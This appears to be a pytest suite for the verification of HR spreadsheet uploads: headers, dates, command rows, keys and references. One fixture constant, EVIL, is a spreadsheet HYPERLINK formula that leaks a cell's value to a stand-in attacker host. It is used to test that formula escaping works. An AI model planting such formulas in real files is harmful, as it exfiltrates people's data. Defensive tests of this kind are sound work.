"""Verify, rule by rule (SPEC §9), on one synchronized sample project (SQLite; verify never
writes): headers, notes row, empty tabs, dates, the apostrophe of an escaped formula, Command
rows, and each check with its message."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from headcount.jobs.synchronization import SyncRequest, synchronize
from headcount.project import ProjectContext
from headcount.upload.verified import Problem, TabData, Verification
from uploadfiles import write_xlsx
from uploadsample import RECORDS, Filled, located, messages, verify_file
from webproject import make_project

EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"Paris")'


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProjectContext]:
    """The sample project synchronized, one site's name a formula planted in the HR file."""
    base = tmp_path_factory.mktemp("verify")
    url = f"sqlite:///{base}/headcount.db"
    folder = make_project(base / "hr", url, people=200, synchronized=False)
    sites = folder / "data" / "hr_sites.csv"
    quoted = EVIL.replace('"', '""')
    sites.write_text(sites.read_text("utf-8").replace(
        "PAR,Siège social — Paris,", f'PAR,"{quoted}",'), "utf-8")
    ctx = ProjectContext.open(folder, url)
    synchronize(ctx, SyncRequest("HR"))
    yield ctx
    ctx.close()


def tab(verification: Verification, name: str) -> TabData:
    return next(t for t in verification.tabs if t.tab == name)


def row(verification: Verification, name: str, key: str) -> dict[str, Any]:
    data = tab(verification, name)
    keyed = data.frame.filter(data.frame[data.entity_type.keys[0]] == key)
    assert keyed.height == 1, key
    return keyed.row(0, named=True)


def only_error(verification: Verification) -> Problem:
    assert len(verification.errors) == 1, messages(verification)
    return verification.errors[0]


def update(sample: ProjectContext) -> Filled:
    return Filled(sample, "empty", command_column=True)


# Headers and layout


def test_headers_in_any_order(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    sheet = filled.sheet("Site")
    for cells in sheet.iter_rows():
        cells[0].value, cells[2].value = cells[2].value, cells[0].value
    verification = filled.verify(tmp_path)
    assert verification.errors == [], messages(verification)
    assert row(verification, "Site", "BRU")["TimeZone"] == "Europe/Brussels"


def test_a_renamed_required_column_is_named_with_a_did_you_mean(
        sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.sheet("Organization")[f"{filled.letter('Organization', 'Manager')}1"] = "Manger"
    verification = filled.verify(tmp_path)
    found = {p.message for p in verification.errors}
    assert "the required column `Manager` is missing — did you mean `Manger`?" in found
    assert "unknown column, probably `Manager` renamed: give it its name back" in found


def test_an_unknown_header_far_from_any_column_is_ignored_with_a_warning(
        sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.sheet("Site")["D1"] = "Comments for Paul"
    filled.sheet("Site")["D3"] = "call him"
    verification = filled.verify(tmp_path)
    assert verification.errors == []
    warning = next(p for p in verification.warnings if p.column == "Comments for Paul")
    assert (warning.row, warning.letter) == (1, "D")
    assert warning.message.startswith("unknown column: ignored")


def test_a_header_twice_is_an_error(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.sheet("Site")["D1"] = "displayname"
    error = only_error(filled.verify(tmp_path))
    assert (error.tab, error.row, error.letter) == ("Site", 1, "D")
    assert error.message == "this column appears twice (also in column B): keep one"


def test_a_deleted_notes_row_loses_nothing(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.sheet("Site").delete_rows(2)
    verification = filled.verify(tmp_path)
    assert verification.errors == []
    assert tab(verification, "Site").rows == 8
    assert tab(verification, "Site").frame["__line"].min() == 2


def test_an_empty_tab_is_ignored_never_emptied(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample)
    filled.append("Site", {"Identifier *": "LYS", "DisplayName": "Lyon",
                           "Time zone": "Europe/Paris"})
    verification = filled.verify(tmp_path)
    assert verification.errors == []
    assert [t.tab for t in verification.tabs] == ["Site"]
    assert {name for name, _ in verification.ignored} == {
        "Identity", RECORDS, "User type", "Organization", "Title", "Subsidiary", "Lists"}
    assert "never deletes" in dict(verification.ignored)["Identity"]


def test_an_unknown_tab_gets_a_did_you_mean(tmp_path: Path, sample: ProjectContext) -> None:
    path = write_xlsx(tmp_path / "upload.xlsx", {"Sites": [["Identifier", "DisplayName"],
                                                           ["LYS", "Lyon"]]})
    assert only_error(verify_file(sample, path)).message.endswith("did you mean `Site`?")


def test_a_tab_is_found_by_entity_type_identifier_case_ignored(
        tmp_path: Path, sample: ProjectContext) -> None:
    sites = [["identifier", "DISPLAYNAME", "timezone"]] + [
        [key, key, "Europe/Paris"] for key in ("BRU", "PAR", "LYS")]
    verification = verify_file(sample, write_xlsx(tmp_path / "up.xlsx",
                                                   {"directory_site": sites}))
    assert verification.errors == []
    assert tab(verification, "directory_site").frame.height == 3


# Values


def test_excel_dates_and_text_dates_read_alike(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    for number, value in enumerate([datetime(2026, 3, 1), "01/03/2026", "1/3/2026",
                                    "2026-03-01", 46082, " 01/03/2026 "], 3):
        filled.set(RECORDS, number, PositionStartDate=value)
    verification = filled.verify(tmp_path)
    assert verification.errors == [], messages(verification)
    starts = tab(verification, RECORDS).frame.filter(
        tab(verification, RECORDS).frame["__line"] <= 8)["PositionStartDate"].to_list()
    assert starts == ["2026-03-01"] * 6


@pytest.mark.parametrize(("header", "value", "message"), [
    ("Contract start date", "31/02/2026",
     "`31/02/2026` is not a date: write DD/MM/YYYY, e.g. 28/02/2026"),
    ("Main position", "maybe", "`maybe` is not true or false: write true or false"),
])
def test_a_value_of_the_wrong_type(sample: ProjectContext, tmp_path: Path, header: str,
                                   value: str, message: str) -> None:
    filled = Filled(sample, "full")
    filled.put(RECORDS, 4, {header: value})
    error = only_error(filled.verify(tmp_path))
    assert (error.tab, error.row, error.column, error.value, error.message) == (
        RECORDS, 4, header + (" *" if header == "Contract start date" else ""), value, message)


def test_an_enum_takes_its_canonical_case_and_refuses_the_rest(
        sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.set("Identity", 3, State="ACTIVE")
    filled.set("Identity", 4, State="retired")
    verification = filled.verify(tmp_path)
    error = only_error(verification)
    assert (error.row, error.message) == (4, "`retired` is not one of: pre-hire, active, left")
    assert row(verification, "Identity", "E00001")["State"] == "active"


def test_the_apostrophe_of_an_escaped_formula_comes_off(sample: ProjectContext,
                                                        tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    line = filled.row_of("Site", "Identifier", "PAR")
    assert filled.get("Site", line, "DisplayName") == "'" + EVIL
    verification = filled.verify(tmp_path)
    assert verification.errors == []
    assert row(verification, "Site", "PAR")["DisplayName"] == EVIL


# Command rows


def test_modify_keeps_what_its_empty_cells_do_not_say_and_null_null_empties(
        sample: ProjectContext, tmp_path: Path) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00001",
                            "Title": "Directeur", "Login": "NULL_NULL"})
    verification = filled.verify(tmp_path)
    assert verification.mode == "update"
    assert verification.errors == [], messages(verification)
    changed = row(verification, RECORDS, "E00001")
    assert changed["Command"] == "update"
    assert (changed["Title"], changed["Login"]) == ("Directeur", None)
    # Absent from the row, kept from the repository: the whole record after the load.
    assert (changed["User"], changed["Organization"], changed["Email"]) == (
        "E00001", "ORG028", "raphael.roy@headcount.example")


def test_delete_carries_its_key_and_merge_keeps_stored_values(
        sample: ProjectContext, tmp_path: Path) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "delete", "RecordIdentifier": "E00002"})
    filled.append(RECORDS, {"Command": "Merge", "RecordIdentifier": "E00003", "Title": "Chef"})
    verification = filled.verify(tmp_path)
    assert verification.errors == [], messages(verification)
    gone = row(verification, RECORDS, "E00002")
    assert gone["Command"] == "delete"
    assert {k for k, v in gone.items() if v is not None} == {"__line", "Command",
                                                              "RecordIdentifier"}
    merged = row(verification, RECORDS, "E00003")
    assert (merged["Command"], merged["Title"], merged["User"]) == ("merge", "Chef", "E00003")


def test_in_a_complete_file_an_empty_cell_is_empty(sample: ProjectContext,
                                                   tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.set(RECORDS, 3, Title=None)
    verification = filled.verify(tmp_path)
    assert row(verification, RECORDS, "E00001")["Title"] is None


def test_a_column_absent_from_the_tab_keeps_the_stored_values(sample: ProjectContext,
                                                              tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.sheet(RECORDS).delete_cols(filled.sheet(RECORDS)[filled.letter(RECORDS, "Title") +
                                                            "1"].column)
    verification = filled.verify(tmp_path)
    assert verification.errors == []
    assert row(verification, RECORDS, "E00001")["Title"] == "Chercheur"


@pytest.mark.parametrize(("command", "key", "message"), [
    ("Add", "E00004", "`E00004` already exists: write Modify to change it, or give the new one "
                      "a key of its own"),
    ("Modify", "E99999", "`E99999` is not in the repository: nothing to change (write Add to "
                         "create it)"),
    ("Replace", "E00004", "`Replace` is not a command: write Add, Modify, Delete or Merge"),
])
def test_a_command_that_cannot_be_done(sample: ProjectContext, tmp_path: Path,
                                       command: str | None, key: str, message: str) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": command, "RecordIdentifier": key})
    error = only_error(filled.verify(tmp_path))
    assert (error.tab, error.row, error.column, error.letter, error.message) == (
        RECORDS, 3, "Command", "A", message)


def test_deleting_what_is_gone_already_is_a_warning(sample: ProjectContext,
                                                    tmp_path: Path) -> None:
    # The same mass update loaded twice changes nothing: its Delete rows are done already.
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Delete", "RecordIdentifier": "E99999"})
    verification = filled.verify(tmp_path)
    assert verification.errors == []
    assert [(p.row, p.column, p.message) for p in verification.warnings
            if p.column == "Command"] == [
        (3, "Command", "`E99999` is not in the repository (deleted already?): nothing to "
                       "delete")]


def test_rows_without_a_command_are_left_alone_with_one_warning_per_tab(
        sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full", command_column=True)
    records = filled.sheet(RECORDS)
    total = records.max_row - 2
    changed = filled.row_of(RECORDS, "RecordIdentifier", "E00001")
    filled.put(RECORDS, changed, {"Command": "Modify", "Title": "Directeur"})
    # Unchecked, as nothing is done with it: a bad date, a command cell of spaces.
    untouched = filled.row_of(RECORDS, "RecordIdentifier", "E00002")
    filled.put(RECORDS, untouched, {"Command": "  ", "StartDate": "31/02/2026"})
    verification = filled.verify(tmp_path)
    assert verification.mode == "update"
    assert verification.errors == [], messages(verification)
    records_tab = tab(verification, RECORDS)
    assert records_tab.frame.height == 1
    assert row(verification, RECORDS, "E00001")["Title"] == "Directeur"
    assert records_tab.rows == total
    warned = {(p.tab, p.row, p.column, p.letter): p.message for p in verification.warnings
              if p.message.endswith("left alone")}
    assert warned[(RECORDS, None, "Command", "A")] == \
        f"{total - 1:,} rows without a command are left alone"
    sites = filled.sheet("Site").max_row - 2
    assert warned[("Site", None, "Command", "A")] == \
        f"{sites:,} rows without a command are left alone"
    assert len(warned) == len([t for t in verification.tabs if t.rows])


def test_one_row_without_a_command(sample: ProjectContext, tmp_path: Path) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00001", "Title": "X"})
    filled.append(RECORDS, {"RecordIdentifier": "E99999", "Title": "never checked"})
    verification = filled.verify(tmp_path)
    assert verification.errors == [], messages(verification)
    assert [p.message for p in verification.warnings if p.column == "Command"] == [
        "1 row without a command is left alone"]


def test_a_mass_update_tab_without_commands(sample: ProjectContext, tmp_path: Path) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00001", "Title": "X"})
    filled.sheet("Site").delete_cols(1)
    filled.append("Site", {"Identifier *": "LYS", "DisplayName": "Lyon"})
    error = only_error(filled.verify(tmp_path))
    assert (error.tab, error.row, error.column) == ("Site", None, "Command")


def test_a_reference_to_a_row_deleted_in_the_same_file(sample: ProjectContext,
                                                       tmp_path: Path) -> None:
    filled = update(sample)
    filled.append("Identity", {"Command": "Delete", "Identifier *": "E00005"})
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00005", "Title": "X"})
    error = only_error(filled.verify(tmp_path))
    assert (error.tab, error.row, error.column, error.value) == (RECORDS, 3, "Identity *", "E00005")
    assert error.message == "`E00005` is deleted by this file: keep that Identity or refer to " \
                            "another one"


# Checks


def test_an_empty_key(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample)
    filled.append("Site", {"DisplayName": "Lyon"})
    error = only_error(filled.verify(tmp_path))
    assert (error.row, error.column, error.message) == (
        3, "Identifier *", "the key Identifier is empty: every row needs one")


def test_a_duplicate_key_names_the_other_rows(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample)
    for name in ("Lyon", "Lille", "Lyon bis"):
        filled.append("Site", {"Identifier *": "LYS" if name != "Lille" else "lil",
                               "DisplayName": name})
    filled.set("Site", 5, Identifier="lys")
    found = {p.row: p.message for p in filled.verify(tmp_path).errors}
    assert found == {3: "the key `LYS` is also in row 5: each row needs a key of its own",
                     5: "the key `lys` is also in row 3: each row needs a key of its own"}


def test_a_key_differing_from_a_stored_one_by_its_case(sample: ProjectContext,
                                                       tmp_path: Path) -> None:
    filled = update(sample)
    filled.append("Site", {"Command": "Add", "Identifier *": "par", "DisplayName": "Paris"})
    error = only_error(filled.verify(tmp_path))
    assert error.message == "`par` differs from the stored key `PAR` only by its case: write " \
                            "`PAR` to change that one, or another key"


def test_an_unknown_reference(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.set(RECORDS, 3, Site="SFO")
    error = only_error(filled.verify(tmp_path))
    assert (error.row, error.column, error.value, error.message) == (
        3, "Site", "SFO", "`SFO` is not a key of a Site, in this file or in the repository")


def test_a_reference_to_a_key_added_by_the_same_file(sample: ProjectContext,
                                                     tmp_path: Path) -> None:
    filled = update(sample)
    filled.append("Site", {"Command": "Add", "Identifier *": "SFO", "DisplayName": "Frisco"})
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00001", "Site": "SFO"})
    assert filled.verify(tmp_path).errors == []


def test_a_required_value(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    filled.set(RECORDS, 3, UserType=None)
    error = only_error(filled.verify(tmp_path))
    assert (error.row, error.column) == (3, "User type *")
    assert error.message.startswith("User type is required for every Identity record: write "
                                    "the key of a User type")


def test_an_organization_without_a_manager(sample: ProjectContext, tmp_path: Path) -> None:
    filled = update(sample)
    filled.append("Organization", {"Command": "Modify", "Identifier *": "ORG001",
                                   "Manager *": "NULL_NULL"})
    error = only_error(filled.verify(tmp_path))
    assert (error.tab, error.column) == ("Organization", "Manager *")
    assert error.message.startswith("Manager is required for every Organization")


def test_a_fixed_term_contract_needs_its_end_date(sample: ProjectContext,
                                                  tmp_path: Path) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00001",
                            "User type *": "trainee"})
    error = only_error(filled.verify(tmp_path))
    assert (error.column, error.message) == (
        "Contract end date", "a `trainee` contract needs its end date: write the last day as "
                           "DD/MM/YYYY")


@pytest.mark.parametrize("login", ["jmenard", "JMenard", "x-jmenard"])
def test_a_login_someone_else_holds_case_and_prefix_ignored(
        sample: ProjectContext, tmp_path: Path, login: str) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00001", "Login": login})
    error = only_error(filled.verify(tmp_path))
    assert (error.column, error.value) == ("Login", login)
    assert error.message == f"`{login}` is already someone else's (Login of `E00002` in the " \
                            f"repository): each person needs their own (case and prefixes " \
                            f"are ignored)"


def test_two_records_of_one_person_share_a_login(sample: ProjectContext,
                                                 tmp_path: Path) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Add", "RecordIdentifier": "E00001-2", "User *": "E00001",
                            "Login": "rroy", "User type *": "permanent",
                            "Contract start date *": "01/01/1980",
                            "Contract end date": "31/12/1989"})
    assert filled.verify(tmp_path).errors == []


def test_overlapping_main_records_of_one_person(sample: ProjectContext,
                                                tmp_path: Path) -> None:
    filled = update(sample)
    new = {"Command": "Add", "Identity *": "E00001", "User type *": "permanent",
           "Contract start date *": "01/01/2020"}
    filled.append(RECORDS, {**new, "RecordIdentifier": "E00001-2"})
    filled.append(RECORDS, {**new, "RecordIdentifier": "E00001-3", "IsMainPosition": "false"})
    filled.append(RECORDS, {**new, "RecordIdentifier": "E00001-4",
                            "Contract start date *": "01/01/2021",
                            "Contract end date": "31/12/2021"})
    found = {p.row: p.message for p in filled.verify(tmp_path).errors}
    assert found == {
        3: "this record overlaps another main position of the same person (`E00001` in the "
           "repository): end one before the other starts",
        5: "this record overlaps another main position of the same person (row 3, `E00001` in "
           "the repository): end one before the other starts"}


def test_columns_hr_computes_are_warned_about(sample: ProjectContext, tmp_path: Path) -> None:
    filled = update(sample)
    filled.append(RECORDS, {"Command": "Modify", "RecordIdentifier": "E00001", "Title": "Chef"})
    verification = filled.verify(tmp_path)
    assert verification.ok
    assert [(p.column, p.message) for p in verification.warnings] == [
        ("Title", "computed from HR by rule HR_Person_To_Directory_UserRecord: the next HR run "
                  "may replace it")]


def test_every_problem_at_once(sample: ProjectContext, tmp_path: Path) -> None:
    filled = Filled(sample, "full")
    for number in range(3, 13):
        filled.set(RECORDS, number, ContractStartDate="someday")
    filled.set("Identity", 3, Birth_date="soon")
    assert located(filled.verify(tmp_path).errors) == {
        *((RECORDS, n, "Contract start date") for n in range(3, 13)), ("Identity", 3, "Birth date")}


def test_deleting_what_a_resource_left_alone_still_names(sample: ProjectContext,
                                                         tmp_path: Path) -> None:
    filled = update(sample)
    filled.append("Identity", {"Command": "Delete", "Identifier *": "E00059"})
    problems = filled.verify(tmp_path).problems
    errors = [p for p in problems if p.severity == "error"]
    assert [(p.tab, p.row, p.column, p.value) for p in errors] == [
        ("Identity", 3, "Identifier *", "E00059"), ("Identity", 3, "Identifier *", "E00059")]
    assert {p.message.split(" still")[0] for p in errors} == {
        "`E00059` is deleted by this file, but Organization `ORG001` (not in this file)",
        "`E00059` is deleted by this file, but Identity record `E00059` (not in this file)"}


def test_a_first_load_into_an_empty_repository(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/headcount.db"
    ctx = ProjectContext.open(make_project(tmp_path / "hr", url, synchronized=False), url)
    try:
        filled = Filled(ctx)
        filled.append("User type", {"Identifier *": "permanent"})
        filled.append("Site", {"Identifier *": "PAR", "DisplayName": "Paris"})
        filled.append("Identity", {"Identifier *": "E1"})
        filled.append("Organization", {"Identifier *": "HQ", "Manager *": "E1"})
        filled.append(RECORDS, {"RecordIdentifier *": "R1", "User *": "E1", "Site": "PAR",
                                "User type *": "permanent", "Contract start date *": "01/01/2026",
                                "Organization": "HQ", "Manager": "E2"})
        verification = filled.verify(tmp_path)
    finally:
        ctx.close()
    assert verification.mode == "initial"
    error = only_error(verification)
    assert (error.tab, error.row, error.column, error.message) == (
        RECORDS, 3, "Manager", "`E2` is not a key of an Identity, in this file or in the "
                               "repository")
